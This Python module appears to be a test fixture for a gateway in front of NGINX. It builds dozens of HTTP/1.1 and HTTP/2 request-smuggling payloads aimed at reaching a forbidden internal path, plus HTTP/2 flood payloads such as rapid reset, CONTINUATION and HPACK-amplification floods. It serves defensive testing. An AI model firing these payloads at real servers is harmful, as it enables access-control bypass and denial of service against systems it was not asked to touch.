"""What a client of bad will sends to the door: a request that is hidden in another one, and floods over HTTP/2."""

from __future__ import annotations

import struct
from collections.abc import Iterable

HIDDEN = "/api/v1/hidden"  # no replica may ever be asked for it
INNER = f"GET {HIDDEN} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
PATH = "/api/v1/events"  # its bodies are gathered; NGINX sends a replica their length


def outer(*lines: str, body: bytes = INNER) -> bytes:
    """A publish whose head has these lines beside the usual ones."""
    return "\r\n".join([f"POST {PATH} HTTP/1.1", "Host: x", *lines, "", ""]).encode("latin-1") + body


def chunk(body: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(body), body)


LENGTH = f"Content-Length: {len(INNER)}"
ENDED = b"0\r\n\r\n"
# Each has an inner request that one reader of the two takes for a part of the body, and the other might not.
REQUESTS = {
    "both lengths": outer(LENGTH, "Transfer-Encoding: chunked", body=ENDED + INNER),
    "both lengths, the chunks first": outer(
        "Transfer-Encoding: chunked", "Content-Length: 5", body=chunk(INNER) + ENDED
    ),
    "a space before the colon": outer(LENGTH, "Transfer-Encoding : chunked"),
    "another coding": outer(LENGTH, "Transfer-Encoding: xchunked"),
    "a coding that ends with chunked": outer(LENGTH, "Transfer-Encoding: identity, chunked"),
    "a coding behind a control character": outer(LENGTH, "Transfer-Encoding: \x0bchunked"),
    "a coding in a folded line": outer(LENGTH, "Transfer-Encoding:", " chunked"),
    "a coding with an underscore": outer(LENGTH, "Transfer_Encoding: chunked"),
    "two codings": outer("Transfer-Encoding: chunked", "Transfer-Encoding: identity", body=ENDED + INNER),
    "two lengths": outer("Content-Length: 0", LENGTH),
    "two lengths in one line": outer(f"Content-Length: 0, {len(INNER)}"),
    "a length with a sign": outer(f"Content-Length: +{len(INNER)}"),
    "a negative length": outer("Content-Length: -1"),
    "a length in hexadecimal": outer(f"Content-Length: {len(INNER):#x}"),
    "a length that is too long": outer(f"Content-Length: {2**64 + 1}"),
    "a line end in a value": outer(LENGTH, "X-A: b\nTransfer-Encoding: chunked"),
    "a lone carriage return in a value": outer(LENGTH, "X-A: b\rTransfer-Encoding: chunked"),
    "a NUL in a value": outer(LENGTH, "X-A: b\0c"),
    "a chunk whose length is too long": outer("Transfer-Encoding: chunked", body=b"f" * 17 + b"\r\n" + INNER),
    "a chunk whose length has a sign": outer("Transfer-Encoding: chunked", body=b"-1\r\n" + INNER),
    "a chunk that ends elsewhere": outer("Transfer-Encoding: chunked", body=b"1\r\nab" + INNER + ENDED),
    "a chunk with an extension over two lines": outer(
        "Transfer-Encoding: chunked", body=b"%x;a=\n\r\n%b\r\n0\r\n\r\n" % (len(INNER), INNER)
    ),
    "trailers that look like a request": outer("Transfer-Encoding: chunked", body=b"0\r\n" + INNER),
    "an upgrade to HTTP/2": outer(
        LENGTH, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"
    ),
    "a length that the connection drops": outer(LENGTH, "Connection: content-length"),
    "HTTP/1.0 with chunks": outer("Transfer-Encoding: chunked", body=chunk(INNER) + ENDED).replace(
        b"/1.1\r", b"/1.0\r", 1
    ),
}

# --- HTTP/2 (RFC 9113), as little of it as it takes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
Fields = Iterable[tuple[str, str]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def number(value: int, bits: int, first: int = 0) -> bytes:
    """An integer with a prefix (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    found, value = [first | most], value - most
    while value >= 128:
        found.append(value % 128 + 128)
        value //= 128
    return bytes([*found, value])


def text(value: str) -> bytes:
    raw = value.encode("latin-1")
    return number(len(raw), 7) + raw


def block(fields: Fields) -> bytes:
    """Fields as literals that nobody keeps (RFC 7541, section 6.2.2)."""
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields)


def opened() -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0)


def asked(path: str = "/api/v1/channels", method: str = "GET", more: Fields = ()) -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "http"), (":path", path), (":authority", "x"), *more]


def request(fields: Fields, body: bytes = b"", stream: int = 1) -> bytes:
    head = frame(HEADERS, END_HEADERS | (0 if body else END_STREAM), stream, block(fields))
    return head + (frame(DATA, END_STREAM, stream, body) if body else b"")


def published(*more: tuple[str, str], body: bytes = INNER) -> bytes:
    return opened() + request(asked(PATH, "POST", more), body)


LATE = "x\r\nTransfer-Encoding: chunked"
REQUESTS |= {
    f"HTTP/2, {what}": sent
    for what, sent in {
        "a line end in a value": published(("x-a", LATE)),
        "a line end in a name": published((f"x-a: {LATE}\r\nx-b", "1")),
        "a colon in a name": published(("transfer-encoding: chunked", "1")),
        "a capital letter in a name": published(("Transfer-Encoding", "chunked")),
        "a NUL in a value": published(("x-a", "b\0c")),
        "a coding": published(("transfer-encoding", "chunked"), body=ENDED + INNER),
        "a header of the connection": published(("connection", "transfer-encoding")),
        "a length that is too short": published(("content-length", "0")),
        "a length that is too long": published(("content-length", "9000")),
        "two lengths": published(("content-length", "0"), ("content-length", str(len(INNER)))),
        "a line end in the path": opened() + request(asked(f"/api/v1/channels HTTP/1.1\r\n\r\nGET {HIDDEN}")),
        "a space in the path": opened() + request(asked(f"{PATH} HTTP/1.1")),
        "a path without a slash": opened() + request(asked("api/v1/channels")),
        "a line end in the method": opened() + request(asked(method=f"GET {HIDDEN} HTTP/1.1\r\nX: ")),
        "a line end in the authority": opened() + request([*asked()[:3], (":authority", f"x\r\n\r\nGET {HIDDEN}")]),
        "two paths": opened() + request([*asked(), (":path", HIDDEN)]),
        "a path after a header": opened() + request([*asked()[:2], ("x-a", "b"), (":path", HIDDEN)]),
        "an unknown field of the request": opened() + request(asked(HIDDEN, more=[(":hidden", "1")])),
        "another name beside the authority": published(("host", f"y\r\n\r\nGET {HIDDEN}")),
    }.items()
}

ODD = range(1, 2000, 2)
LARGE = ("x-large", "x" * 4000)
# A literal that is kept (RFC 7541, section 6.2.1), and then named again and again by its number.
KEPT = block(asked()) + b"\x40" + text(LARGE[0]) + text(LARGE[1])
FLOODS = {
    "streams that are begun and reset at once": b"".join(
        request(asked(), stream=one) + frame(RESET, 0, one, struct.pack(">I", 8)) for one in ODD
    ),
    "more streams than there may be": b"".join(request(asked(), stream=one) for one in ODD),
    "a head that goes on for ever": frame(HEADERS, END_STREAM, 1, block(asked()))
    + frame(CONTINUATION, 0, 1, block([LARGE] * 4)) * 500,
    "a head that goes on in empty frames": frame(HEADERS, END_STREAM, 1, block(asked()))
    + frame(CONTINUATION, 0, 1) * 50_000,
    "a small head that means a large one": b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, one, (KEPT if one == 1 else block(asked())) + b"\xbe" * 10_000)
        for one in range(1, 100, 2)
    ),
    "settings": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 50_000,
    "pings": frame(PING, 0, 0, b"12345678") * 50_000,
    "empty data": request(asked(PATH, "POST"), b"{")[:-10] + frame(DATA, 0, 1) * 50_000,
    "windows of nothing": b"".join(
        request(asked(), stream=one) + frame(WINDOW, 0, one, struct.pack(">I", 0)) for one in ODD
    ),
    "answers that nobody lets come": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    + b"".join(request(asked(), stream=one) for one in ODD[:120]),
    "priorities of streams that are not there": b"".join(
        frame(PRIORITY, 0, one, struct.pack(">IB", one + 2, 255)) for one in range(1, 100_001, 2)
    ),
}
